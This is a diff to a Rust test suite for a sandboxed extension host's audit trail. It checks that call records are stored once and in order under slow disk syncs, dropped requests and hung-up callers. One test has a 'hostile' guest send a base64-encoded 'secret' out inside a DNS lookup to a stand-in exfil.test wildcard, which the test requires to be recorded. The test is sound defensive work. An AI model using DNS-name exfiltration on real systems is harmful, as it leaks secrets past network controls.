@@ -8,7 +8,7 @@ use std::path::PathBuf;
 use std::sync::Arc;
 use std::time::{Duration, Instant};
 
-use warden_audit::{AuditError, AuditSink, Event, MemoryAudit, Record};
+use warden_audit::{AuditError, AuditSink, Event, MemoryAudit, Pending, Record};
 use warden_host::{CallError, ExtensionId, Grant, Host, Policy};
 
 use crate::egress::{FakeResolver, Server, allow_loopback, network};
@@ -36,6 +36,40 @@ impl AuditSink for RefusingStarts {
         }
         self.0.append(record)
     }
+}
+
+/// An audit store whose records are queued at once and stored ("synced") 40 ms later, as a
+/// busy disk's: a window in which a change waits for its `call-start`.
+#[derive(Default)]
+struct SlowSync(MemoryAudit);
+
+impl AuditSink for SlowSync {
+    fn append(&self, record: Record) -> Result<(), AuditError> {
+        self.0.append(record)
+    }
+
+    fn append_all(&self, records: Vec<Record>) -> Pending {
+        let queued = records.into_iter().try_for_each(|r| self.0.append(r));
+        Pending(Box::pin(async move {
+            tokio::time::sleep(Duration::from_millis(40)).await;
+            queued
+        }))
+    }
+}
+
+fn slow_sync(policy: Policy, resolver: Option<Arc<FakeResolver>>) -> (Lab, Arc<SlowSync>) {
+    let sink = Arc::new(SlowSync::default());
+    let lab = Lab::with_builder(policy, {
+        let sink = Arc::clone(&sink);
+        |b| {
+            let b = b.audit(sink);
+            match resolver {
+                Some(r) => b.resolver(r),
+                None => b,
+            }
+        }
+    });
+    (lab, sink)
 }
 
 fn refusing_starts(
@@ -120,22 +154,28 @@ async fn a_call_is_on_the_trail_before_its_first_write_and_a_reading_call_is_not
         })
     };
     let deadline = Instant::now() + Duration::from_secs(5);
-    while starts(&lab.audit.records(), "r-write") == 0 {
-        assert!(
-            Instant::now() < deadline,
-            "no call-start while the call ran"
-        );
+    let mut peeks = 0;
+    while run_as(
+        &lab.host,
+        &format!("r-peek{peeks}"),
+        &id,
+        &format!("{OPEN}\nget 6b"),
+    )
+    .await
+        != "ok\nok:76\n"
+    {
+        assert!(Instant::now() < deadline, "the write never came");
+        peeks += 1;
         tokio::time::sleep(Duration::from_millis(20)).await;
     }
-    // Seen before the call ended (it spins for 3 s after its writes): no `call` record yet.
+    // The write is in, the call still runs (it spins for 3 s after its writes): its start is
+    // on the trail, its end not yet.
     let seen = of(&lab.audit.records(), "r-write");
     assert_eq!(
         seen,
         [(Event::CallStart, Some("kv".to_owned()))],
         "{seen:?}"
     );
-    let now = run_as(&lab.host, "r-peek", &id, &format!("{OPEN}\nget 6b")).await;
-    assert_eq!(now, "ok\nok:76\n", "the write is in");
 
     assert_eq!(writing.await.unwrap(), "ok\nok\nok:1\nok\nok\n");
     // Three writes, one start.
@@ -298,4 +338,102 @@ async fn an_outgoing_request_is_witnessed_before_it_is_sent() {
         text(&out.value)
     );
     assert_eq!(server.connections(), 1, "nothing more reached the server");
+}
+
+/// A guest that starts requests and drops each while it waits for the call's `call-start`
+/// (outside attack: every dropped wait wrote the record again, up to 142 in one call): one
+/// record, and nothing sent.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_change_given_up_while_its_start_is_stored_does_not_store_it_again() {
+    let server = Server::ok("hello");
+    let port = server.port();
+    let resolver = FakeResolver::new(&[("api.acme.test", &[&["127.0.0.1"]])]);
+    let (lab, sink) = slow_sync(allow_loopback(), Some(resolver));
+    let id = lab.load_granted("hostile", network(&["api.acme.test"], &[port]), &Grant::All);
+    let input = format!("10 http://api.acme.test:{port}/x");
+    let out = lab
+        .host
+        .default_tenant()
+        .call_as("n-drop".into(), &id, "egress-dropped", input.as_bytes())
+        .await
+        .unwrap();
+    assert_eq!(text(&out.value), "dropped=10 other=0");
+    let records = sink.0.records();
+    assert_eq!(
+        starts(&records, "n-drop"),
+        1,
+        "{:?}",
+        of(&records, "n-drop")
+    );
+    started_before_it_ended(&records, "n-drop", "network");
+    assert_eq!(server.connections(), 0);
+}
+
+/// A caller that hangs up while the call's start is being stored (a read-write folder: before
+/// the call runs) leaves the call's record too, not a `call-start` alone that reads as a call
+/// the service did not survive (outside attack: 39 of 40 hung-up requests).
+#[tokio::test(flavor = "multi_thread")]
+async fn a_caller_gone_while_the_start_is_stored_leaves_the_calls_record_too() {
+    let (lab, sink) = slow_sync(Policy::default(), None);
+    let id = lab.load_granted("hostile-fs", mounts(&["/data"], &[]), &Grant::All);
+    let tenant = lab.host.default_tenant();
+    let call = tenant.call_as("f-gone".into(), &id, "write", b"/data/gone.txt|x");
+    assert!(
+        tokio::time::timeout(Duration::from_millis(10), call)
+            .await
+            .is_err(),
+        "the call waits for its start to be stored"
+    );
+    let deadline = Instant::now() + Duration::from_secs(5);
+    while !of(&sink.0.records(), "f-gone").contains(&(Event::Call, None)) {
+        assert!(
+            Instant::now() < deadline,
+            "{:?}",
+            of(&sink.0.records(), "f-gone")
+        );
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+    let records = sink.0.records();
+    started_before_it_ended(&records, "f-gone", "filesystem");
+    let end = records
+        .iter()
+        .find(|r| r.request_id() == "f-gone" && r.event() == Event::Call)
+        .unwrap();
+    assert!(
+        end.message().unwrap().contains("the caller went away"),
+        "{end:?}"
+    );
+    let dir = host_dir(&lab, "default", "warden.hostile-fs", "data");
+    assert!(!dir.join("gone.txt").exists(), "the call never ran");
+}
+
+/// A name lookup is a message to the name's servers, which the guest chose within its grant
+/// (outside attack: data sent out in the name under an allowed wildcard, with no trace when
+/// the lookup failed): witnessed first, and recorded even when it fails.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_name_lookup_is_witnessed_and_recorded_even_when_it_fails() {
+    let resolver = FakeResolver::new(&[]);
+    let lab = Lab::with_resolver(allow_loopback(), Some(resolver.clone()));
+    let id = lab.load_granted("hostile", network(&["*.exfil.test"], &[80]), &Grant::All);
+    let out = lab
+        .host
+        .default_tenant()
+        .call_as("d-1".into(), &id, "lookup", b"c2VjcmV0.exfil.test")
+        .await
+        .unwrap();
+    assert!(
+        text(&out.value).starts_with("lookup=err:"),
+        "{}",
+        text(&out.value)
+    );
+    assert_eq!(resolver.calls(), 1);
+    let records = lab.audit.records();
+    started_before_it_ended(&records, "d-1", "network");
+    assert!(
+        records.iter().any(|r| r.request_id() == "d-1"
+            && r.event() == Event::Grant
+            && r.target() == Some("dns:c2VjcmV0.exfil.test")),
+        "{:?}",
+        of(&records, "d-1")
+    );
 }
